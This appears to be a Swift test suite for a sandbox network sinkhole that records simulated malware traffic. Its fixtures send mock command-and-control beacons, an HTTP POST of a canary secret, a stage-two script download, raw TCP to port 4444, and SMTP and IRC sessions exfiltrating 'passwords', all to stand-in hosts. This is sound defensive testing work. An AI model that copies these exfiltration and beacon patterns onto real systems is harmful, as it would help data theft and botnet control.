#if os(Linux)
import Foundation
import Glibc
import PetriModel
@testable import PetriNet
import Testing

/// Real sockets in a private netns: the client side runs inside the same netns as the services.
@Suite(.serialized) struct SinkholeTests {
    @Test func dnsHttpTlsRawUdpAreRecorded() async throws {
        guard Prereq.root, Prereq.nft else { return }
        let lab = try await Lab()
        #expect(lab.net.anyPort)

        // DNS at the resolver address: a stable answer from the pool
        let r1 = try #require(try lab.udp("127.0.0.53", 53, dnsQuery("c2.example")))
        let r2 = try #require(try lab.udp("127.0.0.53", 53, dnsQuery("c2.example", id: 7)))
        let ip = try #require(dnsFirstAddress(r1))
        #expect(ip.hasPrefix("198.18.") && dnsFirstAddress(r2) == ip)
        let r6 = try #require(try lab.udp("127.0.0.53", 53, dnsQuery("c2.example", type: 28)))
        let ip6 = try #require(dnsFirstAddress(r6))
        #expect(ip6.hasPrefix("fd00:5eed::"))

        // HTTP GET and POST to the resolved address
        let get = try lab.tcp(ip, 80, Array("GET /panel/index.php?bot=42 HTTP/1.1\r\nHost: c2.example\r\nUser-Agent: petri-test\r\nConnection: close\r\n\r\n".utf8))
        #expect(String(decoding: get, as: UTF8.self).hasPrefix("HTTP/1.1 200 OK"))
        let body = Array("secret=CANARY-42&host=victim".utf8)
        let post = try lab.tcp(ip, 8080, Array("POST /upload HTTP/1.1\r\nHost: c2.example:8080\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: \(body.count)\r\nConnection: close\r\n\r\n".utf8) + body)
        #expect(String(decoding: post, as: UTF8.self).contains("200 OK"))
        // a download of code gets the payload
        let exe = try lab.tcp(ip, 80, Array("GET /stage2.sh HTTP/1.0\r\nHost: c2.example\r\n\r\n".utf8))
        let exeText = String(decoding: exe, as: UTF8.self)
        #expect(exeText.contains("Content-Type: text/x-sh") && exe.suffix(HTTPResponder.builtinPayload.count).elementsEqual(HTTPResponder.builtinPayload))
        // HTTP on an odd port over IPv6 is sniffed
        let odd = try lab.tcp(ip6, 5000, Array("GET /v6 HTTP/1.1\r\nHost: c2.example\r\nConnection: close\r\n\r\n".utf8))
        #expect(String(decoding: odd, as: UTF8.self).hasPrefix("HTTP/1.1 200"))

        // TLS ClientHello: parsed, answered with an alert
        let alert = try lab.tcp("198.51.100.9", 443, clientHello(sni: "secure.c2.example"))
        #expect(alert.first == 0x15)

        // raw TCP to 198.51.100.5:4444
        let rawFD = try lab.connect("198.51.100.5", 4444).get()
        #expect(lab.sendAll(rawFD, Array("HELLO-FROM-BOT id=17\n".utf8)))
        usleep(100_000)
        close(rawFD)

        // UDP datagram to an arbitrary port
        _ = try lab.udp("198.51.100.5", 9999, Array("beacon:17".utf8), expectReply: false)
        usleep(200_000)

        let s = await lab.net.stop()
        #expect(s.mode == "sinkhole")
        #expect(s.dns.contains { $0.name == "c2.example" && $0.type == "A" && $0.answers == [ip] && $0.transport == "udp" })
        #expect(s.dns.contains { $0.type == "AAAA" && $0.answers == [ip6] })
        let g = try #require(s.http.first { $0.path == "/panel/index.php" })
        #expect(g.method == "GET" && g.host == "c2.example" && g.query == "bot=42" && g.headers["user-agent"] == "petri-test")
        #expect(g.url == "http://c2.example/panel/index.php?bot=42" && g.response == "default-html" && g.responseStatus == 200)
        let p = try #require(s.http.first { $0.method == "POST" })
        #expect(p.bodySize == UInt64(body.count) && p.bodySha256 == sha256Hex(body) && p.bodyPreview.contains("CANARY-42"))
        #expect(s.http.contains { $0.path == "/stage2.sh" && $0.response == "payload:builtin" })
        #expect(s.http.contains { $0.path == "/v6" })
        let t = try #require(s.tls.first)
        #expect(t.sni == "secure.c2.example" && t.alpn == ["h2", "http/1.1"] && t.ja3Hash?.count == 32 && t.version == "TLS 1.3")
        let raw = try #require(s.connections.first { $0.ip == "198.51.100.5" && $0.port == 4444 })
        #expect(raw.proto == "tcp" && raw.service == "raw" && raw.bytesIn == 21 && raw.preview.contains("HELLO-FROM-BOT"))
        #expect(s.other.contains { $0.connection == raw.id && $0.service == "raw" && $0.preview.contains("HELLO-FROM-BOT") })
        let saved = try #require(raw.dataFile)
        #expect(try Data(contentsOf: lab.dir.appendingPathComponent(saved)) == Data("HELLO-FROM-BOT id=17\n".utf8))
        let again = await lab.net.stop()
        #expect(again == s)
        let u = try #require(s.connections.first { $0.proto == "udp" && $0.port == 9999 })
        #expect(u.ip == "198.51.100.5" && u.bytesIn == 9 && u.preview.contains("beacon:17"))
        #expect(s.other.contains { $0.service == "udp" && $0.connection == u.id })
        let web = s.connections.filter { $0.ip == ip && $0.service == "http" }
        #expect(web.count == 3 && web.allSatisfy { $0.domain == "c2.example" })
        #expect(s.connections.contains { $0.ip == ip6 && $0.port == 5000 && $0.service == "http" && $0.domain == "c2.example" })
        #expect(s.pcap == "traffic.pcap")
        #expect(s.truncations.isEmpty)
    }

    @Test func smtpAndIrcGreetersRecordCommands() async throws {
        guard Prereq.root else { return }
        let lab = try await Lab()
        let fd = try lab.connect("198.51.100.25", 25).get()
        func expectLine(_ prefix: String) { #expect(String(decoding: lab.receive(fd) { $0.last == 0x0A }, as: UTF8.self).hasPrefix(prefix)) }
        expectLine("220 ")
        for (cmd, reply) in [("EHLO bot", "250"), ("MAIL FROM:<a@victim.example>", "250"), ("RCPT TO:<drop@c2.example>", "250"), ("DATA", "354")] {
            _ = lab.sendAll(fd, Array("\(cmd)\r\n".utf8)); expectLine(reply)
        }
        _ = lab.sendAll(fd, Array("Subject: loot\r\n\r\npasswords\r\n.\r\n".utf8)); expectLine("250")
        _ = lab.sendAll(fd, Array("QUIT\r\n".utf8)); expectLine("221")
        close(fd)

        let irc = try lab.tcp("198.51.100.66", 6667, Array("NICK bot17\r\nUSER bot 0 * :bot\r\nJOIN #cmd\r\nQUIT\r\n".utf8))
        #expect(String(decoding: irc, as: UTF8.self).contains(" 001 "))
        let s = await lab.net.stop()
        let smtp = try #require(s.other.first { $0.service == "smtp" })
        #expect(smtp.lines.contains("MAIL FROM:<a@victim.example>") && smtp.lines.contains("passwords") && smtp.lines.last == "QUIT")
        let i = try #require(s.other.first { $0.service == "irc" })
        #expect(i.lines == ["NICK bot17", "USER bot 0 * :bot", "JOIN #cmd", "petri> :op!op@irc.example PRIVMSG #cmd :\\x01VERSION\\x01", "QUIT"])
    }

    @Test func proxyConnectTunnelAndExpectContinue() async throws {
        guard Prereq.root else { return }
        let lab = try await Lab()
        let fd = try lab.connect("198.51.100.31", 3128).get()
        _ = lab.sendAll(fd, Array("CONNECT tunnel.c2.example:443 HTTP/1.1\r\nHost: tunnel.c2.example:443\r\n\r\n".utf8))
        let ok = lab.receive(fd) { String(decoding: $0, as: UTF8.self).hasSuffix("\r\n\r\n") }
        #expect(String(decoding: ok, as: UTF8.self).hasPrefix("HTTP/1.1 200"))
        _ = lab.sendAll(fd, clientHello(sni: "tunnel.c2.example"))
        #expect(lab.receive(fd).first == 0x15)
        close(fd)

        let up = try lab.connect("198.51.100.32", 80).get()
        _ = lab.sendAll(up, Array("PUT /u HTTP/1.1\r\nHost: up.example\r\nContent-Length: 5\r\nExpect: 100-continue\r\nConnection: close\r\n\r\n".utf8))
        let cont = lab.receive(up) { String(decoding: $0, as: UTF8.self).hasSuffix("\r\n\r\n") }
        #expect(String(decoding: cont, as: UTF8.self).hasPrefix("HTTP/1.1 100 Continue"))
        _ = lab.sendAll(up, Array("hello".utf8))
        #expect(String(decoding: lab.receive(up), as: UTF8.self).hasPrefix("HTTP/1.1 200"))
        close(up)
        let s = await lab.net.stop()
        let c = try #require(s.http.first { $0.method == "CONNECT" })
        #expect(c.url == "tunnel.c2.example:443" && c.response == "connect-tunnel")
        #expect(s.tls.contains { $0.sni == "tunnel.c2.example" && $0.connection == c.connection })
        #expect(s.http.contains { $0.method == "PUT" && $0.bodySize == 5 })
    }

    @Test func ftpPop3ImapAndSshSpeakFirst() async throws {
        guard Prereq.root else { return }
        let lab = try await Lab()
        let ftp = try lab.tcp("198.51.100.21", 21, Array("USER anonymous\r\nPASS hunter2\r\nQUIT\r\n".utf8))
        #expect(String(decoding: ftp, as: UTF8.self).hasPrefix("220 ") && String(decoding: ftp, as: UTF8.self).contains("230 "))
        let pop = try lab.tcp("198.51.100.110", 110, Array("USER bob\r\nPASS pw\r\nQUIT\r\n".utf8))
        #expect(String(decoding: pop, as: UTF8.self).hasPrefix("+OK"))
        let imap = try lab.tcp("198.51.100.143", 143, Array("a1 LOGIN bob pw\r\na2 LOGOUT\r\n".utf8))
        #expect(String(decoding: imap, as: UTF8.self).contains("a1 OK LOGIN completed."))
        let sshFD = try lab.connect("198.51.100.22", 22).get()
        #expect(String(decoding: lab.receive(sshFD) { $0.last == 0x0A }, as: UTF8.self).hasPrefix("SSH-2.0-"))
        _ = lab.sendAll(sshFD, Array("SSH-2.0-Go\r\n".utf8))
        usleep(100_000)
        close(sshFD)
        let s = await lab.net.stop()
        #expect(s.other.first { $0.service == "ftp" }?.lines == ["USER anonymous", "PASS hunter2", "QUIT"])
        #expect(s.other.first { $0.service == "pop3" }?.lines == ["USER bob", "PASS pw", "QUIT"])
        #expect(s.other.first { $0.service == "imap" }?.lines == ["a1 LOGIN bob pw", "a2 LOGOUT"])
        #expect(s.other.contains { $0.service == "raw" && $0.preview.contains("SSH-2.0-Go") })
    }

    @Test func dnsOverTCPAndMalformedDatagrams() async throws {
        guard Prereq.root else { return }
        let lab = try await Lab()
        let q = dnsQuery("tcp.example")
        let resp = try lab.tcp("127.0.0.53", 53, [0, UInt8(q.count)] + q) { $0.count >= 2 && $0.count >= 2 + (Int($0[0]) << 8 | Int($0[1])) }
        #expect(dnsFirstAddress(Array(resp.dropFirst(2)))?.hasPrefix("198.18.") == true)
        // malformed datagrams: FORMERR or silence, and the server keeps answering
        let formerr = try lab.udp("127.0.0.53", 53, [0xab, 0xcd, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 63, 1, 2])
        #expect(formerr.map { $0[3] & 0x0f } == 1)
        _ = try lab.udp("127.0.0.53", 53, [1, 2, 3], expectReply: false)
        _ = try lab.udp("127.0.0.53", 53, [UInt8](repeating: 0xC0, count: 512), expectReply: false)
        #expect(try lab.udp("127.0.0.53", 53, dnsQuery("after.example")).flatMap(dnsFirstAddress) != nil)
        // connected sockets (glibc's resolver) only accept answers from the address they asked
        for resolver in ["127.0.0.53", "127.0.0.11", "127.0.0.1", "198.51.100.53", "::1"] {
            #expect(try lab.udp(resolver, 53, dnsQuery("connected.example"), connected: true).flatMap(dnsFirstAddress) != nil, "\(resolver)")
        }
        let s = await lab.net.stop()
        #expect(s.dns.contains { $0.name == "tcp.example" && $0.transport == "tcp" })
        #expect(s.dns.contains { $0.rcode == "FORMERR" } && s.dns.contains { $0.rcode == "MALFORMED" })
        #expect(s.dns.contains { $0.name == "after.example" })
    }

    @Test func pcapOpensInTsharkWithTheExpectedPacketCount() async throws {
        guard Prereq.root, Prereq.tshark else { return }
        let lab = try await Lab()
        for i in 0..<3 { _ = try lab.udp("127.0.0.53", 53, dnsQuery("pcap\(i).example")) }   // 3 × (query + answer)
        for _ in 0..<2 { _ = try lab.udp("198.51.100.5", 9999, Array("x".utf8), expectReply: false) }
        usleep(200_000)
        let s = await lab.net.stop()
        let file = lab.dir.appendingPathComponent(try #require(s.pcap)).path
        let all = run("/usr/bin/tshark", ["-n", "-r", file, "-T", "fields", "-e", "frame.number"])
        #expect(all.status == 0)
        #expect(all.out.split(separator: "\n").count == 8)
        let dns = run("/usr/bin/tshark", ["-n", "-r", file, "-Y", "dns.qry.name == \"pcap1.example\"", "-T", "fields", "-e", "dns.a"])
        #expect(dns.out.split(separator: "\n").contains { $0.hasPrefix("198.18.") })
        let udp = run("/usr/bin/tshark", ["-n", "-r", file, "-Y", "udp.dstport == 9999 && ip.dst == 198.51.100.5", "-T", "fields", "-e", "frame.number"])
        #expect(udp.out.split(separator: "\n").count == 2)
    }

    @Test func pcapShowsHTTPAndTLSToTshark() async throws {
        guard Prereq.root, Prereq.tshark else { return }
        let lab = try await Lab()
        _ = try lab.tcp("198.51.100.5", 80, Array("GET /in-the-pcap HTTP/1.0\r\nHost: pcap.example\r\n\r\n".utf8))
        _ = try lab.tcp("198.51.100.5", 443, clientHello(sni: "sni-in-pcap.example"))
        usleep(100_000)
        let s = await lab.net.stop()
        let file = lab.dir.appendingPathComponent(try #require(s.pcap)).path
        let uri = run("/usr/bin/tshark", ["-n", "-r", file, "-Y", "http.request", "-T", "fields", "-e", "http.request.uri", "-e", "http.host"])
        #expect(uri.out.contains("/in-the-pcap\tpcap.example"))
        let sni = run("/usr/bin/tshark", ["-n", "-r", file, "-Y", "tls.handshake.type == 1", "-T", "fields", "-e", "tls.handshake.extensions_server_name"])
        #expect(sni.out.contains("sni-in-pcap.example"))
        let syn = run("/usr/bin/tshark", ["-n", "-r", file, "-Y", "tcp.flags.syn == 1 && tcp.flags.ack == 0", "-T", "fields", "-e", "tcp.dstport"])
        #expect(syn.out.split(separator: "\n").sorted() == ["443", "80"])
    }

    @Test func sectionEncodesWithSnakeCaseKeys() throws {
        var s = NetworkSection(mode: "sinkhole")
        var c = ConnectionRecord(id: "c1", proto: "tcp", ip: "198.51.100.5", port: 80, service: "http", timeNs: 5)
        c.bytesIn = 3; c.srcPort = 40000; c.dataFile = "network/c1.bin"
        s.connections = [c]
        var h = HTTPRecord(connection: "c1", method: "GET", url: "http://x.example/", host: "x.example", path: "/", timeNs: 6)
        h.complete = false; h.bodySha256 = "00"
        s.http = [h]
        s.notes = ["n"]
        let data = try ReportJSON.encoder().encode(s)
        let text = String(decoding: data, as: UTF8.self)
        for key in ["\"bytes_in\"", "\"src_port\"", "\"data_file\"", "\"time_ns\"", "\"body_sha256\"", "\"complete\"", "\"notes\"", "\"protocol\""] {
            #expect(text.contains(key), "\(key)")
        }
        #expect(try JSONDecoder().decode(NetworkSection.self, from: data) == s)
        #expect(try JSONDecoder().decode(NetworkSection.self, from: Data("{}".utf8)) == NetworkSection())
    }

    @Test func noneModeHasNoServicesAndConnectsFail() async throws {
        guard Prereq.root else { return }
        let lab = try await Lab(mode: .none)
        guard case .failure(let e) = lab.connect("198.51.100.5", 80) else { Issue.record("connect succeeded in none mode"); return }
        #expect(e.code == .ENETUNREACH)
        guard case .failure(let e2) = lab.connect("127.0.0.1", 80) else { Issue.record("loopback port 80 answered in none mode"); return }
        #expect(e2.code == .ECONNREFUSED)
        #expect(try lab.udp("127.0.0.53", 53, dnsQuery("x.example"), timeoutMs: 300) == nil)
        let s = await lab.net.stop()
        #expect(s.mode == "none" && s.dns.isEmpty && s.connections.isEmpty && s.http.isEmpty)
    }

    @Test func portListFallbackWithoutAnyPort() async throws {
        guard Prereq.root else { return }
        let lab = try await Lab { $0.ports.anyPort = false }
        #expect(!lab.net.anyPort)
        let listed = try lab.connect("198.51.100.5", 4444).get()   // a listed port answers
        #expect(lab.sendAll(listed, Array("x".utf8)))
        close(listed)
        guard case .failure(let e) = lab.connect("198.51.100.5", 40000) else { Issue.record("unlisted port answered"); return }
        #expect(e.code == .ECONNREFUSED)
        _ = try lab.udp("198.51.100.5", 123, [0x1b] + [UInt8](repeating: 0, count: 47), expectReply: false)
        usleep(200_000)
        let s = await lab.net.stop()
        #expect(s.notes.contains { $0.contains("any-port disabled") })
        #expect(s.connections.contains { $0.port == 4444 && $0.proto == "tcp" })
        #expect(s.connections.contains { $0.port == 123 && $0.proto == "udp" && $0.bytesIn == 48 })
    }
}
#endif
